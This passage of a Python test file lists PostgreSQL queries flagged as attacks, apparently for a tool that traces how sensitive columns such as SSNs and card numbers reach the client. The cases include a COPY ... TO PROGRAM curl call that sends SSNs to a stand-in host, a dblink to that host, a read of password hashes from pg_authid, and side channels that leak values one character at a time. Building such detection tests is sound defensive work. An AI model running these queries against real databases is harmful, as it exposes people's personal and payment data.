        cols="payments.card_number:output",
        out="note ~ payments.card_number",
        fn="upper",
    ),
    Case(
        "SELECT CASE WHEN id > 0 THEN ssn ELSE NULL END FROM customers",
        attack=True,
        rel="customers",
        cols="customers.id:output customers.ssn:output",
        out="case ~ customers.id, customers.ssn",
    ),
    Case(
        "SELECT coalesce(NULL, card_number) AS c FROM payments",
        attack=True,
        rel="payments",
        cols="payments.card_number:output",
        out="c ~ payments.card_number",
    ),
    Case(
        "SELECT id FROM customers UNION ALL SELECT ssn::int FROM customers",
        attack=True,
        rel="customers",
        cols="customers.id:output customers.ssn:output",
        out="id ~ customers.id, customers.ssn",
    ),
    Case(
        "SELECT t.v FROM customers c, LATERAL (SELECT c.ssn AS v) t",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="v = customers.ssn",
    ),
    Case(
        "SELECT v FROM customers c CROSS JOIN LATERAL unnest(ARRAY[c.ssn, c.email]) AS v",
        attack=True,
        rel="customers",
        cols="customers.ssn:output customers.email:output customers.ssn:from customers.email:from",
        out="v ~ customers.ssn, customers.email",
        fn="unnest",
    ),
    Case(
        "SELECT k, v FROM customers c, jsonb_each_text(to_jsonb(c)) AS e(k, v)",
        attack=True,
        rel="customers",
        cols=f"{ALL_CUSTOMERS} {ALL_CUSTOMERS.replace(':output', ':from')}",
        out=f"k ~ {CUSTOMER_ROW}; v ~ {CUSTOMER_ROW}",
        star="customers",
        fn="jsonb_each_text to_jsonb",
    ),
    Case(
        "SELECT string_agg(ssn, ',') FROM customers",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="string_agg ~ customers.ssn",
        fn="string_agg",
    ),
    Case(
        "SELECT first_value(card_number) OVER (ORDER BY id) FROM payments",
        attack=True,
        rel="payments",
        cols="payments.card_number:output payments.id:order",
        out="first_value ~ payments.card_number",
        fn="first_value",
    ),
    Case(
        "SELECT array(SELECT ssn FROM customers)",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="array ~ customers.ssn",
    ),
    Case(
        "SELECT xmlelement(name x, ssn) FROM customers",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="xmlelement ~ customers.ssn",
    ),
    Case(
        "SELECT format('%s', ssn) FROM customers",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="format ~ customers.ssn",
        fn="format",
    ),
    Case(
        "SELECT email FROM vip_contacts",
        attack=True,
        rel="vip_contacts customer_contacts customers",
        cols="customers.email:output customers.id:filter",
        out="email = customers.email",
    ),
    Case(
        "SELECT name AS n FROM customer_contacts WHERE email LIKE '%@bank.com'",
        attack=True,
        rel="customer_contacts customers",
        cols="customers.full_name:output customers.email:filter",
        out="n = customers.full_name",
        where=True,
    ),
    Case(
        "SELECT * FROM customers JOIN payments p ON true",
        attack=True,
        rel="customers payments",
        cols=f"{ALL_CUSTOMERS} {ALL_PAYMENTS}",
        out=f"{ALL_CUSTOMERS_OUT}; id = payments.id; order_id = payments.order_id;"
        " card_number = payments.card_number; amount = payments.amount",
        star="customers payments",
    ),
    Case(
        "SELECT * FROM orders JOIN payments USING (id)",
        attack=True,
        rel="orders payments",
        cols="orders.id:join payments.id:join orders.id:output payments.id:output"
        " orders.customer_id:output orders.total:output orders.status:output"
        " orders.created_at:output payments.order_id:output payments.card_number:output"
        " payments.amount:output",
        out="id = orders.id, payments.id; customer_id = orders.customer_id; total = orders.total;"
        " status = orders.status; created_at = orders.created_at;"
        " order_id = payments.order_id; card_number = payments.card_number;"
        " amount = payments.amount",
        star="orders payments",
    ),
    Case(
        "TABLE payments",
        attack=True,
        rel="payments",
        cols=ALL_PAYMENTS,
        out="id = payments.id; order_id = payments.order_id;"
        " card_number = payments.card_number; amount = payments.amount",
        star="payments",
    ),
    Case(
        "SELECT id FROM customers WHERE ssn LIKE '123%'",
        attack=True,
        rel="customers",
        cols="customers.id:output customers.ssn:filter",
        out="id = customers.id",
        where=True,
    ),
    Case(
        "SELECT id FROM customers ORDER BY ssn",
        attack=True,
        rel="customers",
        cols="customers.id:output customers.ssn:order",
        out="id = customers.id",
    ),
    Case(
        "SELECT rolpassword FROM pg_authid",
        attack=True,
        rel="pg_catalog.pg_authid",
        cols="pg_catalog.pg_authid.rolpassword:output",
        out="rolpassword = pg_catalog.pg_authid.rolpassword",
    ),
    Case(
        "COPY customers TO STDOUT",
        attack=True,
        cmd="COPY",
        rel="customers",
        cols=ALL_CUSTOMERS,
        out=ALL_CUSTOMERS_OUT,
        star="customers",
        copy=_copy("to", "stdout", "customers"),
    ),
    Case(
        "COPY (SELECT ssn FROM customers) TO PROGRAM 'curl -d @- https://evil.example'",
        attack=True,
        cmd="COPY",
        rel="customers",
        cols="customers.ssn:output",
        out="ssn = customers.ssn",
        copy=_copy("to", "program", query=True),
        nested=("SELECT",),
        norm="COPY (SELECT ssn FROM customers) TO PROGRAM $1",
    ),
    Case(
        "COPY payments (card_number) TO '/tmp/cards.csv'",
        attack=True,
        cmd="COPY",
        rel="payments",
        cols="payments.card_number:output",
        out="card_number = payments.card_number",
        copy=_copy("to", "file", "payments"),
    ),
    Case(
        "DO $$ BEGIN PERFORM ssn FROM customers; END $$",
        attack=True,
        cmd="DO",
        rel="customers",
        cols="customers.ssn:output",
        nested=("SELECT",),
        norm="DO $1",
    ),
    Case(
        "DO $$ BEGIN EXECUTE 'CREATE TABLE loot AS SELECT card_number FROM payments'; END $$",
        attack=True,
        cmd="DO",
        ro=False,
        rel="loot/ddl loot/write payments",
        cols="payments.card_number:output",
        nested=("CREATE TABLE AS",),
    ),
    Case(
        "DO $$ BEGIN EXECUTE 'SELECT ' || 'ssn FROM customers'; END $$",
        attack=True,
        cmd="DO",
        ro=False,
        unresolved=True,
    ),
    Case(
        "DO $$ DECLARE r record; BEGIN FOR r IN SELECT card_number FROM payments LOOP"
        " INSERT INTO orders (status) VALUES (r.card_number); END LOOP; END $$",
        attack=True,
        cmd="DO",
        ro=False,
        rel="payments orders/write",
        cols="payments.card_number:output orders.status:write",
        nested=("SELECT", "INSERT"),
    ),
    Case(
        "DO LANGUAGE plpython3u $$ import os $$",
        attack=True,
        cmd="DO",
        ro=False,
        unresolved=True,
    ),
    Case(
        "EXECUTE steal",
        setup=("PREPARE steal AS SELECT ssn, full_name FROM customers",),
        attack=True,
        cmd="EXECUTE",
        rel="customers",
        cols="customers.ssn:output customers.full_name:output",
        out="ssn = customers.ssn; full_name = customers.full_name",
        nested=("SELECT",),
    ),
    Case(
        "EXECUTE never_prepared",
        attack=True,
        cmd="EXECUTE",
        ro=False,
        unresolved=True,
    ),
    Case(
        "PREPARE p AS SELECT * FROM payments; EXECUTE p",
        attack=True,
        cmd="EXECUTE",
        rel="payments",
        cols=ALL_PAYMENTS,
        out="id = payments.id; order_id = payments.order_id;"
        " card_number = payments.card_number; amount = payments.amount",
        star="payments",
        nested=("SELECT",),
        extra={"statement": 1},
    ),
    Case(
        "FETCH ALL FROM loot",
        setup=("DECLARE loot CURSOR WITH HOLD FOR SELECT card_number FROM payments",),
        attack=True,
        cmd="FETCH",
        rel="payments",
        cols="payments.card_number:output",
        out="card_number = payments.card_number",
        nested=("SELECT",),
    ),
    Case(
        "FETCH 5 FROM unknown_cursor",
        attack=True,
        cmd="FETCH",
        ro=False,
        limit=5,
        unresolved=True,
    ),
    Case(
        "EXPLAIN ANALYZE SELECT ssn FROM customers",
        attack=True,
        cmd="EXPLAIN",
        rel="customers",
        cols="customers.ssn:output",
        nested=("SELECT",),
    ),
    Case(
        "EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM payments",
        attack=True,
        cmd="EXPLAIN",
        ro=False,
        rel="payments/write",
        nested=("DELETE",),
    ),
    Case(
        "CREATE TABLE loot AS SELECT ssn, email FROM customers",
        attack=True,
        cmd="CREATE TABLE AS",
        ro=False,
        rel="loot/ddl loot/write customers",
        cols="customers.ssn:output customers.email:output",
        nested=("SELECT",),
    ),
    Case(
        "SELECT card_number INTO loot FROM payments",
        attack=True,
        cmd="SELECT INTO",
        ro=False,
        rel="loot/ddl loot/write payments",
        cols="payments.card_number:output",
        nested=("SELECT",),
    ),
    Case(
        "WITH moved AS (DELETE FROM payments RETURNING card_number) SELECT * FROM moved",
        attack=True,
        ro=False,
        rel="payments/write",
        cols="payments.card_number:output",
        out="card_number = payments.card_number",
        nested=("DELETE",),
    ),
    Case(
        "WITH ins AS (INSERT INTO orders (status) SELECT ssn FROM customers RETURNING id)"
        " SELECT count(*) FROM ins",
        attack=True,
        ro=False,
        rel="orders/write customers",
        cols="orders.status:write customers.ssn:output",
        out="count ~",
        fn="count",
        nested=("INSERT",),
    ),
    Case(
        "INSERT INTO orders (status) SELECT ssn FROM customers",
        attack=True,
        cmd="INSERT",
        ro=False,
        rel="orders/write customers",
        cols="orders.status:write customers.ssn:output",
    ),
    Case(
        "UPDATE orders SET status = c.ssn FROM customers c WHERE c.id = orders.customer_id "
        "RETURNING status",
        attack=True,
        cmd="UPDATE",
        ro=False,
        rel="orders/write customers",
        cols="orders.status:write orders.status:output customers.ssn:output customers.id:filter"
        " orders.customer_id:filter",
        out="status = orders.status",
        where=True,
    ),
    Case(
        "MERGE INTO orders o USING customers c ON o.customer_id = c.id"
        " WHEN MATCHED THEN UPDATE SET status = c.ssn",
        attack=True,
        cmd="MERGE",
        ro=False,
        rel="orders/write customers",
        cols="orders.customer_id:join customers.id:join orders.status:write customers.ssn:output",
    ),
    Case(
        "SELECT query_to_xml('select ssn from customers', true, false, '')",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="query_to_xml ~",
        fn="query_to_xml",
        nested=("SELECT",),
        norm="SELECT query_to_xml($1, true, false, $2)",
    ),
    Case(
        "SELECT ts_rewrite('a'::tsquery, 'select ssn::tsquery, ssn::tsquery from customers')",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="ts_rewrite ~",
        fn="ts_rewrite",
        nested=("SELECT",),
        norm="SELECT ts_rewrite($1::tsquery, $2)",
    ),
    Case(
        "SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)",
        out="ts_rewrite ~",
        fn="ts_rewrite",
        norm="SELECT ts_rewrite($1::tsquery, $2::tsquery, $3::tsquery)",
    ),
    Case(
        "SELECT table_to_xml('payments', true, false, '')",
        attack=True,
        rel="payments",
        cols=ALL_PAYMENTS,
        out="table_to_xml ~",
        fn="table_to_xml",
        star="payments",
        nested=("SELECT",),
    ),
    Case(
        "SELECT query_to_xml(format('select %s from customers', 'ssn'), true, false, '')",
        attack=True,
        ro=False,
        out="query_to_xml ~",
        fn="query_to_xml format",
        unresolved=True,
    ),
    Case(
        "SELECT database_to_xml(true, false, '')",
        attack=True,
        ro=False,
        out="database_to_xml ~",
        fn="database_to_xml",
        unresolved=True,
    ),
    Case(
        "SELECT * FROM dblink('host=evil.example', 'select 1') AS t(x int)",
        attack=True,
        ro=False,
        out="x ~",
        fn="dblink",
        unresolved=True,
    ),
    Case(
        "SELECT set_config('search_path', 'analytics', false)",
        attack=True,
        out="set_config ~",
        fn="set_config",
        set={"kind": "set_config", "name": "search_path", "local": False},
    ),
    Case(
        "SELECT * FROM daily_sales",
        setup=("SELECT set_config('search_path', 'analytics', false)",),
        attack=True,
        rel="analytics.daily_sales",
        cols="analytics.daily_sales.day:output analytics.daily_sales.total:output",
        out="day = analytics.daily_sales.day; total = analytics.daily_sales.total",
        star="analytics.daily_sales",
    ),
    Case(
        "SET search_path = analytics; SELECT total FROM daily_sales",
        attack=True,
        rel="analytics.daily_sales",
        cols="analytics.daily_sales.total:output",
        out="total = analytics.daily_sales.total",
        extra={"statement": 1},
    ),
    Case(
        "CREATE FUNCTION leak() RETURNS SETOF text LANGUAGE sql AS 'SELECT ssn FROM customers'",
        attack=True,
        cmd="CREATE FUNCTION",
        ro=False,
        rel="customers",
        cols="customers.ssn:output",
        nested=("SELECT",),
    ),
    Case(
        "CREATE FUNCTION leak2() RETURNS text LANGUAGE plpgsql AS $$"
        " BEGIN RETURN (SELECT card_number FROM payments LIMIT 1); END $$",
        attack=True,
        cmd="CREATE FUNCTION",
        ro=False,
        rel="payments",
        cols="payments.card_number:output",
        nested=("SELECT",),
    ),
    Case(
        "CREATE RULE r AS ON INSERT TO orders DO ALSO INSERT INTO payments (card_number) "
        "VALUES (NEW.status)",
        attack=True,
        cmd="CREATE RULE",
        ro=False,
        rel="orders/ddl payments/write",
        cols="payments.card_number:write",
        nested=("INSERT",),
    ),
    Case(
        "SELECT email FROM customers WHERE id = 1",
        setup=("CREATE TEMP VIEW customers AS SELECT id, ssn AS email FROM public.customers",),
        attack=True,
        rel="pg_temp.customers(view) customers",
        cols="customers.ssn:output customers.id:filter",
        out="email = customers.ssn",
        where=True,
    ),
    Case(
        "SELECT * FROM loot",
        setup=("CREATE TEMP TABLE loot AS SELECT card_number AS note FROM payments",),
        attack=True,
        rel="pg_temp.loot",
        cols="payments.card_number:output",
        out="note = payments.card_number",
        star="pg_temp.loot",
    ),
    Case(
        "CREATE VIEW v AS SELECT ssn FROM customers; SELECT * FROM v",
        attack=True,
        rel="v(view) customers",
        cols="customers.ssn:output",
        out="ssn = customers.ssn",
        star="v",
        extra={"statement": 1},
    ),
    Case(
        "VALUES ((SELECT ssn FROM customers LIMIT 1))",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="column1 ~ customers.ssn",
    ),
    Case(
        'SELECT ssn COLLATE "C" FROM customers',
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="ssn ~ customers.ssn",
    ),
    Case(
        "SELECT x.ssn FROM (customers JOIN orders ON orders.customer_id = customers.id) AS x",
        attack=True,
        rel="customers orders",
        cols="customers.ssn:output orders.customer_id:join customers.id:join",
        out="ssn = customers.ssn",
    ),
    Case(
        "SELECT id, ssn FROM customers WHERE id = 1 UNION SELECT id, card_number FROM payments",
        attack=True,
        rel="customers payments",
        cols="customers.id:output customers.ssn:output customers.id:filter payments.id:output"
        " payments.card_number:output customers.id:group customers.ssn:group payments.id:group"
        " payments.card_number:group",
        out="id = customers.id, payments.id; ssn = customers.ssn, payments.card_number",
    ),
    Case(
        "SELECT id, ssn FROM customers WHERE id = $1 LIMIT $2",
        protocol="extended",
        attack=True,
        rel="customers",
        cols="customers.id:output customers.id:filter customers.ssn:output",
        out="id = customers.id; ssn = customers.ssn",
        where=True,
        limit_param=2,
    ),
    Case(
        "SELECT email FROM customers WHERE id IN (SELECT customer_id FROM orders o"
        " WHERE o.total > ALL (SELECT amount FROM payments))",
        attack=True,
        rel="customers orders payments",
        cols="customers.email:output customers.id:filter orders.customer_id:filter"
        " orders.total:filter payments.amount:filter",
        out="email = customers.email",
        where=True,
    ),
    # Values that reach the client as a number of rows, an order or a comparison only
    # (limit, from, group): each one spells out a protected column given enough queries.
    Case(
        "SELECT g FROM generate_series(1, 1000) g"
        " LIMIT (SELECT ascii(ssn) FROM customers WHERE id = 42)",
        attack=True,
        rel="customers",
        cols="customers.id:filter customers.ssn:limit",
        out="g",
        fn="ascii generate_series",
    ),
    Case(
        "SELECT g FROM generate_series(1, 1000) g"
        " OFFSET (SELECT ascii(email) FROM customers WHERE id = 42) LIMIT 1",
        attack=True,
        rel="customers",
        cols="customers.email:limit customers.id:filter",
        out="g",
        fn="ascii generate_series",
        limit=1,
    ),
    Case(  # an outer query's column in a subquery's LIMIT
        "SELECT (SELECT count(*) FROM (SELECT 1 FROM orders LIMIT ascii(c.ssn)) s)"
        " FROM customers c WHERE c.id = 42",
        attack=True,
        rel="customers orders",
        cols="customers.id:filter customers.ssn:limit",
        out="count",
        fn="ascii count",
        where=True,
    ),
    Case(
        "SELECT count(*) FROM (SELECT generate_series(1, ascii(ssn)) FROM customers"
        " WHERE id = 42) s",
        attack=True,
        rel="customers",
        cols="customers.id:filter customers.ssn:from",
        out="count",
        fn="ascii count generate_series",
    ),
    Case(
        "WITH x AS (SELECT generate_series(1, ascii(ssn)) AS n FROM customers WHERE id = 42)"
        " SELECT count(*) FROM x",
        attack=True,
        rel="customers",
        cols="customers.id:filter customers.ssn:from",
        out="count",
        fn="ascii count generate_series",
    ),
    Case(
        "SELECT count(*) FROM customers c, LATERAL generate_series(1, ascii(c.ssn)) g"
        " WHERE c.id = 42",
        attack=True,
        rel="customers",
        cols="customers.id:filter customers.ssn:from",
        out="count",
        fn="ascii count generate_series",
        where=True,
    ),
    Case(
        "SELECT count(*) FROM orders"
        " TABLESAMPLE BERNOULLI ((SELECT ascii(ssn) FROM customers WHERE id = 42))",
        attack=True,
        rel="customers orders",
        cols="customers.id:filter customers.ssn:from",
        out="count",
        fn="ascii count",
    ),
    Case(
        "SELECT sum(1) OVER (ORDER BY g ROWS BETWEEN (SELECT ascii(ssn) FROM customers"
        " WHERE id = 42) PRECEDING AND CURRENT ROW) FROM generate_series(1, 200) g",
        attack=True,
        rel="customers",
        cols="customers.id:filter customers.ssn:limit",
        out="sum",
        fn="ascii generate_series sum",
    ),
    Case(
        "SELECT count(*) FROM XMLTABLE('/a' PASSING xmlelement(name a, (SELECT ssn"
        " FROM customers WHERE id = 42)) COLUMNS v text PATH '.') x",
        attack=True,
        rel="customers",
        cols="customers.id:filter customers.ssn:from",
        out="count",
        fn="count",
    ),
    Case(
        "SELECT email FROM customers WHERE id = 42"
        " INTERSECT ALL SELECT status FROM orders WHERE id = 1",
        attack=True,
        rel="customers orders",
        cols="customers.email:group customers.email:output customers.id:filter"
        " orders.id:filter orders.status:group orders.status:output",
        out="email = customers.email, orders.status",
        where=True,
    ),
    Case(  # appends without comparing
        "SELECT email FROM customers WHERE id = 42 UNION ALL SELECT status FROM orders"
        " WHERE id = 1",
        attack=True,
        rel="customers orders",
        cols="customers.email:output customers.id:filter orders.id:filter orders.status:output",
        out="email = customers.email, orders.status",
        where=True,
    ),
    Case(  # the cycle path is an array of the cycle columns' rows
        "WITH RECURSIVE r(e) AS (SELECT email FROM customers WHERE id = 42 UNION ALL"
        " SELECT e FROM r) CYCLE e SET c USING p SELECT p FROM r",
        attack=True,
        rel="customers",
        cols="customers.email:group customers.email:output customers.id:filter",
        out="p ~ customers.email",
    ),
    Case(
        "WITH RECURSIVE r(e, n) AS (SELECT email, 1 FROM customers UNION ALL"
        " SELECT e, n + 1 FROM r WHERE n < 2) SEARCH BREADTH FIRST BY e SET o"
        " SELECT o, n FROM r",
        attack=True,
        rel="customers",
        cols="customers.email:order customers.email:output",
        out="o ~ customers.email; n",
    ),
    Case(
        "WITH RECURSIVE r(e) AS (SELECT email FROM customers UNION SELECT e FROM r)"
        " SELECT count(*) FROM r",
        attack=True,
        rel="customers",
        cols="customers.email:group",
        out="count",
        fn="count",
    ),
    # A partition's or inheritance child's rows are its root's: read, written and
    # classified as the root (its own columns stay its own).
    Case(
        "SELECT email, archived_at FROM customers_archive WHERE id = 42 LIMIT 1",
        attack=True,
        rel="customers customers_archive",
        cols="customers.email:output customers.id:filter customers_archive.archived_at:output",
        out="email = customers.email; archived_at = customers_archive.archived_at",
        where=True,
        limit=1,
    ),
    Case(
        "SELECT * FROM customers_archive WHERE id = 42 LIMIT 1",
        attack=True,
        rel="customers customers_archive",
        cols=f"{ALL_CUSTOMERS} customers.id:filter customers_archive.archived_at:output",
        out=f"{ALL_CUSTOMERS_OUT}; archived_at = customers_archive.archived_at",
        star="customers customers_archive",
        where=True,
        limit=1,
    ),
    Case(
        "INSERT INTO customers_archive (id, email) VALUES (1, 'x')",
        cmd="INSERT",
        ro=False,
        rel="customers/write customers_archive/write",
        cols="customers_archive.email:write customers_archive.id:write",
    ),
]
